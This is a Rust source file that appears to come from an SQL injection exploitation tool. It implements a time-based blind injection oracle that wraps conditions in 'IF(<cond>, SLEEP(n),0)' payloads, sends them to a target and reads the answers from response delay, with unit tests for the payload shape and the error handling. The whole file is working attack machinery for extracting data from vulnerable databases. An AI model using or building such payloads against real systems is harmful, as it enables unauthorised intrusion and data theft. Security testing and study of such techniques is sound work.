//! Timing oracle: a boolean answer derived from response delay
//!
//! A condition is wrapped into `1 AND IF(<cond>, SLEEP(<delay>),0)` and sent
//! through a [`Transport`]. The answer is true when the round trip takes at
//! least the configured delay.

use crate::core::settings::PAYLOAD_PREFIX;
use crate::error::TransportError;
use async_trait::async_trait;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

/// Carries one payload to the target and reports how long it took.
#[async_trait]
pub trait Transport: Send + Sync {
    async fn send(&self, payload: &str) -> Result<Duration, TransportError>;
}

/// Answers whether a boolean SQL condition holds on the target.
#[async_trait]
pub trait Oracle: Send + Sync {
    async fn probe(&self, condition: &str) -> bool;
}

pub struct TimingOracle<T> {
    transport: T,
    delay: f64,
    threshold: Duration,
    probes: AtomicUsize,
}

impl<T: Transport> TimingOracle<T> {
    pub fn new(transport: T, delay: f64) -> Self {
        Self {
            transport,
            delay,
            threshold: Duration::from_secs_f64(delay),
            probes: AtomicUsize::new(0),
        }
    }

    /// Full payload placed in the injectable parameter
    pub fn payload(&self, condition: &str) -> String {
        format!("{} IF({}, SLEEP({}),0)", PAYLOAD_PREFIX, condition, self.delay)
    }

    /// Requests sent so far
    pub fn probes(&self) -> usize {
        self.probes.load(Ordering::Relaxed)
    }
}

#[async_trait]
impl<T: Transport> Oracle for TimingOracle<T> {
    async fn probe(&self, condition: &str) -> bool {
        let payload = self.payload(condition);
        self.probes.fetch_add(1, Ordering::Relaxed);

        // fail closed: a broken request is a zero-length measurement
        let elapsed = match self.transport.send(&payload).await {
            Ok(elapsed) => elapsed,
            Err(err) => {
                tracing::debug!("[ORACLE] {} - counted as false", err);
                Duration::ZERO
            }
        };

        tracing::trace!(
            "[ORACLE] {:.2}s for {}",
            elapsed.as_secs_f64(),
            condition
        );

        elapsed >= self.threshold
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Mutex;

    struct FixedTransport {
        reply: fn() -> Result<Duration, TransportError>,
        sent: Mutex<Vec<String>>,
    }

    impl FixedTransport {
        fn new(reply: fn() -> Result<Duration, TransportError>) -> Self {
            Self {
                reply,
                sent: Mutex::new(Vec::new()),
            }
        }
    }

    #[async_trait]
    impl Transport for FixedTransport {
        async fn send(&self, payload: &str) -> Result<Duration, TransportError> {
            self.sent.lock().unwrap().push(payload.to_string());
            (self.reply)()
        }
    }

    #[test]
    fn test_payload_shape() {
        let oracle = TimingOracle::new(FixedTransport::new(|| Ok(Duration::ZERO)), 2.0);
        assert_eq!(oracle.payload("1=1"), "1 AND IF(1=1, SLEEP(2),0)");

        let oracle = TimingOracle::new(FixedTransport::new(|| Ok(Duration::ZERO)), 1.5);
        assert_eq!(oracle.payload("1=1"), "1 AND IF(1=1, SLEEP(1.5),0)");
    }

    #[tokio::test]
    async fn test_delay_at_threshold_is_true() {
        let oracle = TimingOracle::new(FixedTransport::new(|| Ok(Duration::from_secs(2))), 2.0);
        assert!(oracle.probe("1=1").await);

        let sent = oracle.transport.sent.lock().unwrap().clone();
        assert_eq!(sent, vec!["1 AND IF(1=1, SLEEP(2),0)".to_string()]);
    }

    #[tokio::test]
    async fn test_fast_response_is_false() {
        let oracle =
            TimingOracle::new(FixedTransport::new(|| Ok(Duration::from_millis(300))), 2.0);
        assert!(!oracle.probe("1=1").await);
        assert_eq!(oracle.probes(), 1);
    }

    #[tokio::test]
    async fn test_transport_errors_fail_closed() {
        let replies: [fn() -> Result<Duration, TransportError>; 3] = [
            || Err(TransportError::Timeout),
            || Err(TransportError::Connect("refused".into())),
            || Err(TransportError::Request("reset".into())),
        ];

        for reply in replies {
            let oracle = TimingOracle::new(FixedTransport::new(reply), 2.0);
            assert!(!oracle.probe("1=1").await);
        }
    }
}
